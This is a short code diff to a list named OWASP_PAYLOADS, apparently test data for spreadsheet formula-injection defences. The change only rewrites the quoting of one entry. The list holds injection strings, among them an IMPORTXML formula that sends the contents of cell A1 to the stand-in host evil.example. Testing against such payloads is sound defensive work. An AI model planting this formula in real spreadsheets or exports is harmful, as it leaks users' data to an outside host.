@@ -27,7 +27,7 @@ OWASP_PAYLOADS = [
     "\n=1+1",
     " =1+1",
     "\uff1d1+1",
-    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
 ]
 
 
